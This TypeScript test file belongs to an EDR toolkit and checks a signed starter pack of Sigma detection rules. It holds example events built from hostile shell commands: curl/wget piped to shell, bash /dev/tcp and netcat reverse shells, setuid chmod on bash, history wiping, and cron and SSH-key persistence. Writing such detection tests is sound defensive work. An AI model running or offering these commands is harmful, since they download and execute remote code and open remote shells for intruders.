/**
 * The starter rule pack (packages/cli/content/starter-rules): it verifies against the key
 * shipped with the CLI, every rule compiles, every rule fires on the live recording of
 * fixtures/starter-scenario.sh (fixtures/starter-pack.jsonl, re-recorded as root with
 * `npm run record:starter-examples`), and on example events written here it fires on the
 * behaviour and stays quiet on look-alikes.
 */
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseEvent, readRecording, type EdrEvent } from '@edrkit/core';
import { PluginError, formatPublicKey, generateKeyPair } from '@edrkit/plugins';
import { RuleSet } from '@edrkit/sigma';
import { STARTER_PACK_DIR, STARTER_PACK_KEY, loadStarterRules } from '../../packages/cli/src/starter-pack.js';
// The backend's own quoting of argv into cmdline, so the examples look exactly like live events.
import { joinArgs } from '../../packages/linux/src/proc/process-cache.js';

let seq = 0;
const shell = { pid: 4100, exe: '/usr/bin/bash', cmdline: '-bash' };
function exec(args: string[], exe = `/usr/bin/${args[0] ?? 'sh'}`): EdrEvent {
  seq++;
  return parseEvent({
    kind: 'process.exec', time: 1_790_000_000_000 + seq, seq, platform: 'linux', source: 'linux-ebpf',
    process: { pid: 5000 + seq, ppid: shell.pid, uid: 1000, gid: 1000, user: 'alice', exe, args, cmdline: joinArgs(args), cwd: '/home/alice', parent: shell },
  });
}
function file(kind: 'file.create' | 'file.modify', filePath: string): EdrEvent {
  seq++;
  return parseEvent({
    kind, time: 1_790_000_000_000 + seq, seq, platform: 'linux', source: 'linux-ebpf',
    process: { pid: 6000 + seq, ppid: shell.pid, uid: 0, exe: '/usr/bin/tee', args: ['tee', '-a', filePath], cmdline: `tee -a ${filePath}`, parent: shell },
    file: { path: filePath },
  });
}

/** Per rule file: activity it must match, and similar activity it must not. */
const EXAMPLES: Record<string, { fires: EdrEvent[]; quiet: EdrEvent[] }> = {
  'download_piped_to_shell.yml': {
    fires: [exec(['sh', '-c', 'curl -fsSL http://203.0.113.7/i.sh | sh'], '/usr/bin/dash'), exec(['bash', '-c', 'wget -qO- http://x.test/a | sudo bash'])],
    quiet: [exec(['sh', '-c', 'curl -o /tmp/f http://x.test/f'], '/usr/bin/dash'), exec(['sh', '-c', 'curl http://x.test | shasum'], '/usr/bin/dash')],
  },
  'reverse_shell_dev_tcp.yml': {
    fires: [exec(['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.4/4444 0>&1']), exec(['bash', '-c', 'exec 5<>/dev/tcp/198.51.100.4/80; cat <&5 | sh >&5'])],
    quiet: [exec(['bash', '-c', 'timeout 1 cat < /dev/null > /dev/tcp/127.0.0.1/5432 && echo up'])],
  },
  'netcat_exec_shell.yml': {
    fires: [exec(['nc', '-e', '/bin/sh', '198.51.100.4', '4444']), exec(['ncat', '198.51.100.4', '4444', '-e', '/bin/bash'])],
    quiet: [exec(['nc', '-zv', '127.0.0.1', '22'])],
  },
  'nohup_from_temp.yml': {
    fires: [exec(['nohup', '/tmp/.x/miner', '--bg']), exec(['nohup', './kworker'], '/usr/bin/nohup')],
    quiet: [exec(['nohup', '/usr/bin/rsync', '-a', 'src', 'dst'])],
  },
  'chmod_exec_in_temp.yml': {
    fires: [exec(['chmod', '+x', '/tmp/payload.sh']), exec(['chmod', '755', '/dev/shm/x']), exec(['chmod', 'u+rwx', '/var/tmp/t'])],
    quiet: [exec(['chmod', '644', '/tmp/notes.txt']), exec(['chmod', '+x', '/home/alice/bin/tool'])],
  },
  'setuid_chmod.yml': {
    fires: [exec(['chmod', 'u+s', '/tmp/rootsh']), exec(['chmod', '4755', '/usr/local/bin/helper']), exec(['chmod', '+s', '/bin/bash'])],
    quiet: [exec(['chmod', '755', '/usr/local/bin/helper']), exec(['chmod', 'u+x', '/tmp/s.sh'])],
  },
  'crontab_edit.yml': {
    fires: [exec(['crontab', '/tmp/cron.txt']), exec(['crontab', '-e'])],
    quiet: [exec(['crontab', '-l'])],
  },
  'cron_file_created.yml': {
    fires: [file('file.create', '/etc/cron.d/update'), file('file.create', '/var/spool/cron/crontabs/root')],
    quiet: [file('file.create', '/etc/cron.allow.bak/x'), file('file.create', '/home/alice/cron.d/note')],
  },
  'ssh_authorized_keys_created.yml': {
    fires: [file('file.create', '/root/.ssh/authorized_keys')],
    quiet: [file('file.create', '/root/.ssh/known_hosts'), file('file.modify', '/home/alice/.ssh/authorized_keys')],
  },
  'ssh_authorized_keys_modified.yml': {
    fires: [file('file.modify', '/home/alice/.ssh/authorized_keys')],
    quiet: [file('file.modify', '/home/alice/.ssh/config'), file('file.create', '/home/bob/.ssh/authorized_keys')],
  },
  'shell_history_cleared.yml': {
    fires: [exec(['bash', '-c', 'history -c && exit']), exec(['rm', '-f', '/root/.bash_history']), exec(['ln', '-sf', '/dev/null', '/home/alice/.zsh_history']), exec(['bash', '-c', 'unset HISTFILE; id'])],
    quiet: [exec(['cat', '/root/.bash_history']), exec(['rm', '-f', '/tmp/history.txt'])],
  },
  'exec_from_dev_shm.yml': {
    fires: [exec(['/dev/shm/.k', '-d'], '/dev/shm/.k')],
    quiet: [exec(['ls', '/dev/shm'])],
  },
};

describe('starter rule pack', () => {
  const { pack, rules } = loadStarterRules();
  const set = new RuleSet(rules);

  it('verifies with the shipped key and every rule compiles', () => {
    expect(pack.manifest).toMatchObject({ name: 'edrkit-starter', format: 'sigma' });
    expect(rules.filter((r) => r.status !== 'ok').map((r) => `${r.path}: ${r.reason}`)).toEqual([]);
    expect(rules.map((r) => path.basename(r.path)).sort()).toEqual(Object.keys(EXAMPLES).sort());
    expect(new Set(rules.map((r) => r.id)).size).toBe(rules.length);
  });

  it('every rule fires on the recorded scenario, on the step meant for it', async () => {
    const fired = new Map<string, string[]>();
    for await (const line of readRecording(path.join(import.meta.dirname, 'fixtures/starter-pack.jsonl'))) {
      if (!line.ok) throw line.error;
      for (const rule of set.match(line.event)) {
        const file = path.basename(rules.find((l) => l.compiled === rule)?.path ?? '?');
        const e = line.event;
        fired.set(file, [...(fired.get(file) ?? []), 'file' in e ? e.file.path : e.kind === 'sensor.lost' ? '' : e.process.cmdline]);
      }
    }
    expect([...fired.keys()].sort()).toEqual(Object.keys(EXAMPLES).sort());
    expect(fired.get('download_piped_to_shell.yml')).toEqual([expect.stringMatching(/curl .*\| sh/)]);
    expect(fired.get('exec_from_dev_shm.yml')).toEqual([expect.stringMatching(/^\/dev\/shm\/edrkit-starter-/)]);
    expect(fired.get('cron_file_created.yml')).toEqual(['/etc/cron.d/edrkit-starter-example']);
  });

  for (const [ruleFile, { fires, quiet }] of Object.entries(EXAMPLES)) {
    it(`${ruleFile} fires on its examples and only on them`, () => {
      const names = (e: EdrEvent) => set.match(e).map((r) => path.basename(rules.find((l) => l.compiled === r)?.path ?? '?'));
      for (const e of fires) expect(names(e), e.kind === 'process.exec' ? e.process.cmdline : '').toContain(ruleFile);
      for (const e of quiet) expect(names(e), JSON.stringify(e)).not.toContain(ruleFile);
    });
  }

  it('refuses a pack changed after signing, or one signed by another key', () => {
    const copy = path.join(mkdtempSync(path.join(tmpdir(), 'edrkit-starter-')), 'pack');
    cpSync(STARTER_PACK_DIR, copy, { recursive: true });
    const rule = path.join(copy, 'rules/setuid_chmod.yml');
    writeFileSync(rule, readFileSync(rule, 'utf8').replace('level: high', 'level: low'));
    expect(() => loadStarterRules(copy)).toThrow(expect.objectContaining({ code: 'ERR_PLUGIN_TAMPERED' }) as PluginError);
    const otherKey = path.join(copy, '..', 'other.pub');
    writeFileSync(otherKey, formatPublicKey(generateKeyPair().publicKey));
    expect(() => loadStarterRules(STARTER_PACK_DIR, otherKey)).toThrow(expect.objectContaining({ code: 'ERR_PLUGIN_UNTRUSTED_KEY' }) as PluginError);
    expect(STARTER_PACK_KEY).toMatch(/edrkit-starter\.pub$/);
  });
});
